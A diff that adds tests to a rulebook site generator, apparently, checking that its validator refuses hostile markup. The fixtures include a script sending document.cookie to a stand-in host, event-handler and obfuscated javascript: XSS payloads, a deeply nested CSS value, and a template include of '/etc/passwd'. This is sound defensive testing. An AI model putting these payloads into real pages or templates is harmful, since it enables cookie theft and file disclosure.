@@ -268,3 +268,58 @@ def test_an_image_over_the_pixel_limit_is_a_reason_whatever_the_warning_filter(t
                 assert "MAX_IMAGE_PIXELS" in image_problem((tmp_path / f"{side}.png").read_bytes())
         finally:
             Image.MAX_IMAGE_PIXELS = previous
+
+
+# --- markup that would run in a reader's browser (issue 42) --------------------------------------
+
+BROWSER_RUNS = {
+    "a script in a French chapter": ("card_data/verset/rulebook/fr/02-cartes-et-mains.md",
+                                     "<script>fetch('//x.example/?' + document.cookie)</script>"),
+    "a handler in an English chapter": ("card_data/verset/rulebook/en/02-cards-and-hands.md",
+                                        '<details open ontoggle="alert(1)">x</details>'),
+    "a script link in a paragraph": ("card_data/verset/rulebook/en/03-the-campaign.md",
+                                     'Read <a href="jav&#x09;ascript:alert(1)">this</a> first.'),
+}
+
+
+@pytest.mark.parametrize("name", sorted(BROWSER_RUNS))
+def test_markup_that_runs_in_a_browser_is_refused_at_its_chapter_line(project, tmp_path, name):
+    """The rules reference publishes the chapters on the download site: a script, a handler or a
+    script URL is refused in every language's chapters, at its line."""
+    relative, markup = BROWSER_RUNS[name]
+    path = project / relative
+    path.write_text(markup + "\n\n" + path.read_text())
+    assert one_problem(project, tmp_path).startswith(f"{relative}:1: (html): expected text and markup that run")
+
+
+def test_a_handler_in_an_example_layout_is_refused_by_the_build(project, tmp_path):
+    edit(project, "layouts/verset/example.html", "<figure", '<figure onmouseover="alert(1)"')
+    line = line_of(project, "layouts/verset/example.html", "onmouseover")
+    out = tmp_path / "out"
+    problem = one_problem(project, tmp_path, "build", "verset", "--paper", "a4", "--out", str(out))
+    assert problem.startswith(f"layouts/verset/example.html:{line}:") and "onmouseover=" in problem
+    assert not out.exists()
+
+
+# --- what reached a traceback (issue 42): one line, exit 2, the layout's line ------------------
+
+NESTED = "calc(" * 500 + "1px" + ")" * 500
+
+
+@pytest.mark.parametrize("where", ["stylesheet", "style attribute"])
+def test_values_nested_five_hundred_deep_are_refused_at_their_line(project, tmp_path, where):
+    if where == "stylesheet":
+        path = project / CARDS_CSS
+        path.write_text(path.read_text() + f"\n.verse .name {{ width: {NESTED}; }}\n")
+        expected = f"{CARDS_CSS}:{len(path.read_text().splitlines())}:"
+    else:
+        edit(project, VERSE, NAME, f'<span style="width: {NESTED}">{NAME}</span>')
+        expected = f"{VERSE}:{line_of(project, VERSE, 'calc(')}:"
+    problem = one_problem(project, tmp_path)
+    assert problem.startswith(expected) and "MAX_CSS_NESTING" in problem
+
+
+def test_an_include_of_a_file_outside_the_layouts_is_one_line(project, tmp_path):
+    edit(project, VERSE, NAME, NAME + "{% include '/etc/passwd' %}")
+    problem = one_problem(project, tmp_path)
+    assert problem.startswith(f"{VERSE}:{line_of(project, VERSE, '/etc/passwd')}:") and "outside" in problem
